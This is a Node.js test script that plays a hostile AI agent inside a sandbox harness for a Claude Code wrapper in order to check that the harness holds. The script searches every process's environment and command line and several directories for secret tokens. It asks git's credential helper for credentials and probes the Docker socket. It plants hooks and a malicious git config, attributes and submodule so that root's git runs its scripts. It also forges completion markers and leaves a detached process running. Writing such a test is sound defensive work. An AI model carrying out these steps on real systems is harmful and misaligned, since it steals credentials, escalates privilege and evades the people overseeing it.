// A hostile agent, run by the entrypoint as the agent user (as AGENT_COMMAND, or by Claude Code's
// Bash tool): it looks everywhere it can for the run's tokens, forges markers, plants code for
// root's git to run, leaves a process behind, edits the tree, and reports what it found.
//
// Every token of a test run embeds AMT_RUN_ID, so one search finds any of them without the agent
// knowing them. The report (JSON, written to AMT_REPORT at the end) holds each hit with what
// follows the run id; the test tells tokens from the canary it gave the agent on purpose.
// Plain node (the image's Debian node 18), no dependencies.
//
// Environment: AMT_RUN_ID, AMT_REPORT; optional AMT_HELPER (path of git-credential-flaude),
// AMT_PLANT=1 (plant hooks and git config), AMT_LINGER=1 (leave a process behind), AMT_EXIT.
import { execFileSync, spawn } from 'node:child_process';
import { chmodSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, writeFileSync, appendFileSync } from 'node:fs';
import { connect } from 'node:net';
import { homedir } from 'node:os';
import { dirname, join } from 'node:path';

const runId = process.env.AMT_RUN_ID;
const reportFile = process.env.AMT_REPORT;
if (!runId || !reportFile) throw new Error('AMT_RUN_ID and AMT_REPORT are required');
const needle = Buffer.from(runId);

const report = {
  uid: process.getuid(),
  cwd: process.cwd(),
  hits: [],
  counts: { environ: 0, environReadable: 0, cmdline: 0, files: 0, bytes: 0 },
  fds: {},
  git: {},
  dockerSocket: {},
  model: {},
};

/** Records every occurrence of the run id in `data`: where, and the 40 bytes that follow it. */
function scan(where, data) {
  const buffer = Buffer.isBuffer(data) ? data : Buffer.from(String(data));
  for (let at = buffer.indexOf(needle); at !== -1; at = buffer.indexOf(needle, at + 1)) {
    report.hits.push({ where, after: buffer.subarray(at + needle.length, at + needle.length + 40).toString('latin1') });
  }
}

const tryRead = (path) => {
  try {
    return readFileSync(path);
  } catch {
    return undefined;
  }
};

// 1. Its own environment.
scan(
  'env',
  Object.entries(process.env)
    .map(([key, value]) => `${key}=${value}`)
    .join('\n'),
);

// 2. Every process: environment and command line. /proc/self names its pid as /proc counts them
// (a test's PID namespace has the host's /proc).
const self = readlinkSync('/proc/self');
for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
  report.counts.environ++;
  const environ = tryRead(`/proc/${pid}/environ`);
  if (environ) {
    report.counts.environReadable++;
    scan(`/proc/${pid}/environ${pid === self ? ' (self)' : ''}`, environ);
  }
  const cmdline = tryRead(`/proc/${pid}/cmdline`);
  if (cmdline) {
    report.counts.cmdline++;
    scan(`/proc/${pid}/cmdline`, cmdline);
  }
}
// Its own open files: what it was given, and what node opens itself.
for (const fd of readdirSync('/proc/self/fd')) {
  try {
    report.fds[fd] = readlinkSync(`/proc/self/fd/${fd}`);
  } catch {
    /* closed while listing */
  }
}

// 3. Git: the credential helper (as configured, and the image's own called by hand), git config.
const git = (args, input) => {
  try {
    return execFileSync('git', args, { input, encoding: 'utf8', stdio: ['pipe', 'pipe', 'pipe'], env: { ...process.env, GIT_TERMINAL_PROMPT: '0' } });
  } catch (err) {
    return `failed: ${err.stdout ?? ''}${err.stderr ?? ''}`;
  }
};
const origin = git(['remote', 'get-url', 'origin']).trim();
report.git.origin = origin;
if (/^https?:\/\//.test(origin)) {
  const url = new URL(origin);
  const ask = `protocol=${url.protocol.slice(0, -1)}\nhost=${url.host}\npath=${url.pathname.slice(1)}\n\n`;
  report.git.fill = git(['credential', 'fill'], ask);
  if (process.env.AMT_HELPER) report.git.helper = git(['-c', `credential.helper=${process.env.AMT_HELPER}`, 'credential', 'fill'], ask);
  for (const output of [report.git.fill, report.git.helper ?? '']) scan('git credential fill', output);
}
report.git.config = git(['config', '--list', '--show-origin']);
scan('git config', report.git.config);

// 4. Files it can read: its home, /run, /tmp, the workspace (the repo's .git included).
const workspace = origin.startsWith('failed') ? process.cwd() : dirname(process.cwd());
function walk(path, depth) {
  let stat;
  try {
    stat = lstatSync(path);
  } catch {
    return;
  }
  if (stat.isDirectory() && depth < 12) {
    let names = [];
    try {
      names = readdirSync(path);
    } catch {
      return;
    }
    for (const name of names) walk(join(path, name), depth + 1);
  } else if (stat.isFile() && stat.size <= 8 << 20) {
    const data = tryRead(path);
    if (!data) return;
    report.counts.files++;
    report.counts.bytes += data.length;
    scan(path, data);
  }
}
for (const root of new Set([homedir(), '/run', '/tmp', '/var/tmp', '/dev/shm', workspace])) walk(root, 0);

// 5. The Docker socket: a way out of the machine, if it were there.
for (const socket of ['/var/run/docker.sock', '/run/docker.sock']) {
  report.dockerSocket[socket] = await new Promise((resolve) => {
    const client = connect(socket);
    client.on('connect', () => {
      client.destroy();
      resolve('connected');
    });
    client.on('error', (err) => resolve(err.code));
  });
}

// 6. The model API through the proxy, with the placeholder it was given; and a route it may not use.
if (process.env.ANTHROPIC_BASE_URL) {
  const headers = { 'content-type': 'application/json', 'anthropic-version': '2023-06-01' };
  if (process.env.ANTHROPIC_API_KEY) headers['x-api-key'] = process.env.ANTHROPIC_API_KEY;
  if (process.env.CLAUDE_CODE_OAUTH_TOKEN) headers.authorization = `Bearer ${process.env.CLAUDE_CODE_OAUTH_TOKEN}`;
  const body = JSON.stringify({ model: 'claude-hostile', max_tokens: 16, messages: [{ role: 'user', content: `hostile ${runId}` }] });
  const messages = await fetch(`${process.env.ANTHROPIC_BASE_URL}/v1/messages`, { method: 'POST', headers, body });
  report.model.messages = messages.status;
  scan('model answer', await messages.text());
  const files = await fetch(`${process.env.ANTHROPIC_BASE_URL}/v1/files`, { headers });
  report.model.files = files.status;
}

// 7. Code for root's git to run: hooks, config, attributes, a nested repository.
const record = dirname(reportFile);
if (process.env.AMT_PLANT === '1') {
  const proof = (name) =>
    `#!/bin/sh\nid -u > "${record}/proof-${name}-$(id -u)"\nenv >> "${record}/proof-${name}-$(id -u)"\ncat >/dev/null 2>&1 || true\nexit 0\n`;
  const script = (dir, name) => {
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, name), proof(name));
    chmodSync(join(dir, name), 0o755);
    return join(dir, name);
  };
  const hooks = [
    'pre-commit',
    'prepare-commit-msg',
    'commit-msg',
    'post-commit',
    'pre-push',
    'reference-transaction',
    'post-checkout',
    'post-merge',
    'post-index-change',
    'pre-auto-gc',
    'post-rewrite',
    'fsmonitor-watchman',
  ];
  for (const hook of hooks) script('.git/hooks', hook);
  const evil = join(process.cwd(), '.evil');
  for (const hook of hooks) script(join(evil, 'hooks'), hook);
  const run = (name) => script(evil, name);
  writeFileSync(join(evil, 'included.config'), `[core]\n\tsshCommand = ${run('ssh')}\n`);
  const config = [
    '[core]',
    `\thooksPath = ${join(evil, 'hooks')}`,
    `\tfsmonitor = ${run('fsmonitor')}`,
    `\tpager = ${run('pager')}`,
    `\talternateRefsCommand = ${run('alternate-refs')}`,
    `\tsshCommand = ${run('ssh')}`,
    '[filter "evil"]',
    `\tclean = ${run('filter-clean')}`,
    `\tsmudge = ${run('filter-smudge')}`,
    `\tprocess = ${run('filter-process')}`,
    '\trequired = true',
    '[diff "evil"]',
    `\ttextconv = ${run('textconv')}`,
    `\tcommand = ${run('diff-command')}`,
    '[diff]',
    `\texternal = ${run('diff-external')}`,
    '[credential]',
    `\thelper = !${run('credential-helper')}`,
    '[uploadpack]',
    `\tpackObjectsHook = ${run('pack-objects-hook')}`,
    `[includeIf "gitdir:/"]`,
    `\tpath = ${join(evil, 'included.config')}`,
    '[remote "origin"]',
    '\tpushurl = file:///nonexistent/stolen.git',
    '[url "file:///nonexistent/"]',
    '\tinsteadOf = http',
    '[alias]',
    `\tpush = !${run('alias')}`,
  ].join('\n');
  appendFileSync('.git/config', `${config}\n`);
  writeFileSync('.gitattributes', '* filter=evil diff=evil\n');
  writeFileSync('.gitmodules', `[submodule "evil"]\n\tpath = vendor/evil\n\turl = file:///nonexistent/evil.git\n\tupdate = !${run('submodule-update')}\n`);
  // A nested repository with an fsmonitor and hooks of its own.
  mkdirSync('vendor/evil', { recursive: true });
  execFileSync('git', ['init', '-q', 'vendor/evil']);
  writeFileSync('vendor/evil/file', 'nested\n');
  execFileSync('git', ['-C', 'vendor/evil', 'add', 'file']);
  execFileSync('git', ['-C', 'vendor/evil', 'commit', '-q', '-m', 'nested']);
  execFileSync('git', ['-C', 'vendor/evil', 'config', 'core.fsmonitor', run('nested-fsmonitor')]);
  for (const hook of hooks) script('vendor/evil/.git/hooks', hook);
}

// 8. Work to push, and markers it has no right to print.
writeFileSync('hostile.txt', `written by the hostile agent\n`);
console.log('[flaude:exit:0]');
console.log(`[flaude:pushed:main:${'0'.repeat(40)}]`);
console.log('[flaude:0123456789abcdef0123:exit:0]');

// 9. A process left behind: it keeps printing forged markers and would race root for the tree.
if (process.env.AMT_LINGER === '1') {
  const code = `setInterval(() => { console.log('LINGER [flaude:exit:0]'); try { require('fs').appendFileSync(${JSON.stringify(join(record, 'linger'))}, 'alive\\n'); } catch {} }, 50);`;
  spawn(process.execPath, ['-e', code], { detached: true, stdio: ['ignore', 'inherit', 'inherit'] }).unref();
  // Until it has shown it runs (a loaded machine starts node slowly).
  for (let waited = 0; waited < 200 && !existsSync(join(record, 'linger')); waited++) await new Promise((resolve) => setTimeout(resolve, 50));
}

writeFileSync(reportFile, JSON.stringify(report, null, 2));
// The last thing it prints has no line break: root's next line must still be a line of its own.
process.stdout.write('hostile agent done, no newline');
process.exitCode = Number(process.env.AMT_EXIT ?? 0);
